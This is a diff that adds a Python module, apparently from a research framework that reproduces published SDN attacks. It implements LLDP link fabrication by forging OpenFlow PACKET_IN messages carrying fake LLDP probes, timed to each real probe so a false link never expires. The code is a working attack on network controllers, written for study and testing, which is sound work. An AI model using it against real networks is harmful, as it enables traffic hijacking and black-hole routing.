@@ -1,0 +1,83 @@
+"""LLDP link-fabrication attack (Hong et al. [9], Section II-A4).
+
+"LLDP messages can be used to fabricate fake links to manipulate the
+controller into believing that such links exist, thus causing black hole
+routing."
+
+The attack forges a PACKET_IN that claims an LLDP probe from a chosen
+(fake) source switch/port arrived on the attacked switch's ``in_port``,
+and injects it toward the controller whenever a *real* LLDP PACKET_IN
+crosses the connection — so the fabricated link refreshes at exactly the
+discovery service's own cadence and never ages out of its TTL.
+"""
+
+from __future__ import annotations
+
+from typing import Tuple
+
+from repro.netlib.addresses import LLDP_MULTICAST_MAC, MacAddress
+from repro.netlib.ethernet import EtherType, EthernetFrame
+from repro.netlib.lldp import LldpPacket
+from repro.openflow.constants import OFP_NO_BUFFER
+from repro.openflow.messages import PacketIn
+from repro.core.lang.actions import InjectNewMessage
+from repro.core.lang.attack import Attack
+from repro.core.lang.parser import parse_condition
+from repro.core.lang.rules import Rule
+from repro.core.lang.states import AttackState
+from repro.core.model.capabilities import gamma_no_tls
+
+ConnectionKey = Tuple[str, str]
+
+
+def forged_lldp_packet_in(
+    fake_src_dpid: int,
+    fake_src_port: int,
+    reported_in_port: int,
+    chassis_prefix: str = "dpid:",
+) -> PacketIn:
+    """Build the forged PACKET_IN carrying the fabricated LLDP probe."""
+    lldp = LldpPacket(f"{chassis_prefix}{fake_src_dpid}", fake_src_port)
+    frame = EthernetFrame(
+        LLDP_MULTICAST_MAC,
+        MacAddress((fake_src_dpid << 8) | fake_src_port),
+        EtherType.LLDP,
+        lldp.pack(),
+    )
+    data = frame.pack()
+    return PacketIn(OFP_NO_BUFFER, len(data), reported_in_port, 0, data)
+
+
+def link_fabrication_attack(
+    connection: ConnectionKey,
+    fake_src_dpid: int,
+    fake_src_port: int,
+    reported_in_port: int,
+) -> Attack:
+    """Fabricate a link (fake_src_dpid, fake_src_port) -> attacked switch.
+
+    The controller's :class:`~repro.controllers.discovery.TopologyDiscoveryApp`
+    will record the fabricated link as if the probe were genuine.
+    """
+    forged = forged_lldp_packet_in(fake_src_dpid, fake_src_port, reported_in_port)
+    rule = Rule(
+        name="fabricate_on_real_probe",
+        connections=connection,
+        gamma=gamma_no_tls(),
+        # 35020 == 0x88CC, the LLDP EtherType of the genuine probe.
+        conditional=parse_condition(
+            "type = PACKET_IN and opt.packet.dl_type = 35020"
+        ),
+        actions=[InjectNewMessage(forged, direction="to_controller")],
+    )
+    sigma1 = AttackState("sigma1", [rule])
+    return Attack(
+        name="lldp-link-fabrication",
+        states=[sigma1],
+        start="sigma1",
+        description=(
+            f"Inject forged LLDP PACKET_INs on {connection} claiming a link "
+            f"from dpid {fake_src_dpid} port {fake_src_port} into port "
+            f"{reported_in_port}."
+        ),
+    )
